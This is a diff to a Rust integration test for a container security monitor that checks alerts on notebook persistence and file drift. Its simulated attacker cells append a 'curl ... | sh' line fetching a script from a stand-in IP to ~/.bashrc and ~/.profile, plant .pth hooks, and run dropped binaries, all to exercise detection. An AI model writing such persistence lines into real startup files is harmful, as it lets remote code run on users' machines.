@@ -48,6 +48,7 @@ print('linked')"#,
     // (and one in the environment's site-packages, where pip's goes in cell 6)
     r#"import os, site, sysconfig
 open(os.path.expanduser('~/.bashrc'), 'a').write('curl -s http://198.51.100.7/x | sh\n')
+open(os.path.expanduser('~/.profile'), 'a').write('curl -s http://198.51.100.7/x | sh\n')
 open(os.path.join(site.getusersitepackages(), 'evil.pth'), 'w').write('import os\n')
 open(os.path.join(sysconfig.get_path('purelib'), 'zz-kernel.pth'), 'w').write('import os\n')
 print('hooked')"#,
@@ -87,6 +88,10 @@ fn persistence_locations_alert_at_write_time_and_installs_do_not() {
     std::fs::write(&kc, api.kubeconfig()).unwrap();
     let env = [("KUBECONFIG", kc.as_os_str()), ("NODE_NAME", std::ffi::OsStr::new("node-1"))];
     let g = GuardProcess::start_env("discovery:\n  kubernetes:\n    enabled: true\n", &[], &env).unwrap();
+    // A home as an image's /etc/skel leaves it: a ~/.profile already there.
+    std::fs::create_dir_all(&pod.home).unwrap();
+    std::fs::write(pod.home.join(".profile"), "# ~/.profile\n").unwrap();
+    nix::unistd::chown(&pod.home.join(".profile"), Some(1000.into()), Some(100.into())).unwrap();
     pod.start(&net.notebook).unwrap();
     let mut cells = vec![PREPARE];
     cells.extend(CELLS);
@@ -128,6 +133,7 @@ fn persistence_locations_alert_at_write_time_and_installs_do_not() {
         ("/.ipython/profile_default/startup/01-link.py", "ipython-startup", &["symlink"][..], "ipykernel_launcher"),
         ("/.ipython/profile_alt/startup", "ipython-startup", &["symlink"][..], "ipykernel_launcher"),
         ("/.bashrc", "shell-rc", &["create", "write"][..], "ipykernel_launcher"),
+        ("/.profile", "shell-rc", &["write"][..], "ipykernel_launcher"),
         ("/evil.pth", "site-hook", &["create", "write"][..], "ipykernel_launcher"),
         (
             "/opt/conda/lib/python3.11/site-packages/zz-kernel.pth",
@@ -162,7 +168,7 @@ fn persistence_locations_alert_at_write_time_and_installs_do_not() {
     assert!(pod.upper.join("opt/conda/lib/python3.11/site-packages/pthpkg.pth").exists(), "pip installed the .pth");
     // Only what the cells planted: the kernel's and the server's own files (profile, README,
     // history, runtime, workspaces) raise nothing.
-    assert_eq!(planted.len(), 8, "{planted:#?}");
+    assert_eq!(planted.len(), 9, "{planted:#?}");
     // The planted startup file ran in the next kernel, and what it ran was seen.
     assert!(
         alerts.iter().any(|a| a["rule"] == "notebook.non_python_exec"
@@ -194,21 +200,20 @@ r = subprocess.run([sys.executable, '-m', 'pip', 'install', '--no-index', '--no-
 print('pip', r.returncode, r.stderr.strip()[-300:])"#;
 
 const DRIFT_CELLS: &[&str] = &[
-    // A binary "downloaded" into the container's layer and made executable by the kernel.
-    r#"import shutil, os, subprocess, time
+    // A binary "downloaded" into the container's layer and made executable by the kernel,
+    // then run at once (the chmod and the exec a millisecond apart).
+    r#"import shutil, os, subprocess
 shutil.copyfile('/bin/echo', '/tmp/dl-echo')
 os.chmod('/tmp/dl-echo', 0o755)
-time.sleep(0.5)
 print(subprocess.run(['/tmp/dl-echo', 'DL-RAN'], capture_output=True, text=True).stdout.strip())"#,
     // A script written to the home volume and made executable by a shell the kernel started.
-    r#"import os, subprocess, time
+    r#"import os, subprocess
 p = os.path.expanduser('~/dl-tool')
 open(p, 'w').write('#!/bin/sh\necho TOOL-RAN\n')
 subprocess.run(['/bin/chmod', '+x', p])
-time.sleep(0.5)
 print(subprocess.run([p], capture_output=True, text=True).stdout.strip())"#,
     CONSOLE_WHEEL,
-    "import subprocess, time\ntime.sleep(0.5)\nprint(subprocess.run(['/opt/conda/bin/drifty'], capture_output=True, text=True).stdout.strip())",
+    "import subprocess\nprint(subprocess.run(['/opt/conda/bin/drifty'], capture_output=True, text=True).stdout.strip())",
 ];
 
 #[test]
